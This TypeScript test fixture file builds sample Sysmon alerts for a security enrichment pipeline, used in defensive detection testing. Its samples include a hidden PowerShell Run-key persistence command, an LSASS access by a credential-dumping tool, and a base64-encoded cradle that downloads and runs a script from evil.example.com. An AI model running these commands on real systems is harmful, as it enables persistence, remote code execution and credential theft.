import type { Alert } from '../../../lambdas/core/model/alert';

/**
 * Alerts for enrichment tests, shaped as the Sysmon and EDR adapters produce them. A Sysmon event carries no vendor
 * severity, so it has the normalizer's default score (20, "unknown") and no `vendor` text.
 */

let seq = 0;

/** A minimal valid Sysmon alert; pass the parts a test is about. */
export function makeAlert(overrides: Partial<Alert> = {}): Alert {
  seq += 1;
  return {
    alertId: `sysmon:fin-ws-034:microsoft-windows-sysmon/operational:${9000 + seq}`,
    source: { product: 'sysmon', format: 'sysmon-xml' },
    eventTime: '2024-02-15T21:25:03.000Z',
    receivedTime: '2024-02-15T21:25:10.000Z',
    eventType: 'process_create',
    eventCode: 1,
    host: { name: 'FIN-WS-034.corp.example.com' },
    user: { name: 'jwilliams', domain: 'CORP' },
    severity: { score: 20 },
    techniques: [],
    flags: [],
    raw: {},
    rawTruncated: false,
    ...overrides,
  };
}

export const RUN_KEY = 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run';
export const RUN_VALUE_DATA =
  'C:\\Windows\\System32\\rundll32.exe C:\\ProgramData\\Microsoft\\Drivers\\security.dll,UpdateNow';
/** As in the reference ticket, typographic quotes included. */
export const RUN_KEY_POWERSHELL =
  'powershell -WindowStyle Hidden -Command \u201cNew-ItemProperty -Path HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run ' +
  '-Name WindowsSecurityUpdate -Value \u2018C:\\Windows\\System32\\rundll32.exe C:\\ProgramData\\Microsoft\\Drivers\\security.dll,UpdateNow\u2019 ' +
  '-PropertyType String -Force\u201d';

/**
 * The reference SOC ticket's alert: Sysmon event 13, a hidden PowerShell started from explorer.exe writes the Run
 * value `WindowsSecurityUpdate` that makes rundll32 load a DLL from ProgramData.
 */
export function runKeyAlert(overrides: Partial<Alert> = {}): Alert {
  return makeAlert({
    eventType: 'registry_value_set',
    eventCode: 13,
    eventName: 'Registry value set',
    rule: { name: 'Registry Run Key Modification by Suspicious Process' },
    techniques: ['T1547.001'],
    process: {
      guid: '{5770385f-c22a-43e0-bf4c-06f5698ffbd9}',
      pid: 7842,
      image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      commandLine: RUN_KEY_POWERSHELL,
      parent: { pid: 4120, image: 'C:\\Windows\\explorer.exe' },
    },
    registry: {
      operation: 'SetValue',
      key: RUN_KEY,
      valueName: 'WindowsSecurityUpdate',
      valueData: RUN_VALUE_DATA,
    },
    ...overrides,
  });
}

export const PROCSRV_IMAGE = 'C:\\Windows\\System32\\procsrv.exe';

/** The CISA triage's persistence: procsrv.exe writes `Local Network Manager` under HKCU\…\Run. */
export function procsrvRunKeyAlert(overrides: Partial<Alert> = {}): Alert {
  return makeAlert({
    eventType: 'registry_value_set',
    eventCode: 13,
    host: { name: 'WS-0105', ips: ['10.10.3.5'] },
    techniques: ['T1547.001', 'T1218.011'],
    process: { pid: 5332, image: PROCSRV_IMAGE },
    registry: {
      operation: 'SetValue',
      key: 'HKU\\S-1-5-21-3940915590-64593676-1414006259-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
      valueName: 'Local Network Manager',
      valueData: 'C:\\Windows\\system32\\rundll32.exe C:\\Windows\\System32\\lanman.dll, Register',
    },
    ...overrides,
  });
}

/** The CISA triage's beacon: procsrv.exe connects to 162.125.6.18 over HTTPS. */
export function procsrvConnectAlert(overrides: Partial<Alert> = {}): Alert {
  return makeAlert({
    eventType: 'network_connect',
    eventCode: 3,
    host: { name: 'WS-0105', ips: ['10.10.3.5'] },
    process: { pid: 5332, image: PROCSRV_IMAGE },
    network: {
      protocol: 'tcp',
      direction: 'outbound',
      srcIp: '10.10.3.5',
      srcPort: 51544,
      dstIp: '162.125.6.18',
      dstPort: 443,
    },
    ...overrides,
  });
}

/** Sysmon event 10: a tool in a user's Desktop opens LSASS. */
export function lsassAccessAlert(grantedAccess = '0x1010', overrides: Partial<Alert> = {}): Alert {
  return makeAlert({
    eventType: 'process_access',
    eventCode: 10,
    techniques: ['T1003.001'],
    process: { pid: 2212, image: 'C:\\Users\\wardog\\Desktop\\Outflank-Dumpert.exe' },
    target: { pid: 680, image: 'C:\\Windows\\system32\\lsass.exe', grantedAccess },
    ...overrides,
  });
}

/** `IEX (New-Object Net.WebClient).DownloadString('https://evil.example.com/a.ps1')` as UTF-16LE base64. */
export const ENCODED_COMMAND = Buffer.from(
  "IEX (New-Object Net.WebClient).DownloadString('https://evil.example.com/a.ps1')",
  'utf16le',
).toString('base64');

/** Sysmon event 1: a hidden PowerShell with an encoded command, started from Word. */
export function encodedPowerShellAlert(overrides: Partial<Alert> = {}): Alert {
  return makeAlert({
    eventType: 'process_create',
    eventCode: 1,
    techniques: ['T1059.001'],
    process: {
      pid: 6120,
      image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      commandLine: `powershell.exe -nop -w hidden -enc ${ENCODED_COMMAND}`,
      parent: {
        pid: 3300,
        image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
        commandLine:
          '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\jwilliams\\Downloads\\invoice.docm"',
      },
    },
    ...overrides,
  });
}

/** Sysmon event 22: the DNS client service resolves an internal file server. Nothing suspicious. */
export function benignDnsAlert(overrides: Partial<Alert> = {}): Alert {
  return makeAlert({
    eventType: 'dns_query',
    eventCode: 22,
    process: { pid: 1408, image: 'C:\\Windows\\System32\\svchost.exe' },
    dns: { query: 'fileserver01.corp.local', results: ['10.20.30.40'], status: '0' },
    ...overrides,
  });
}
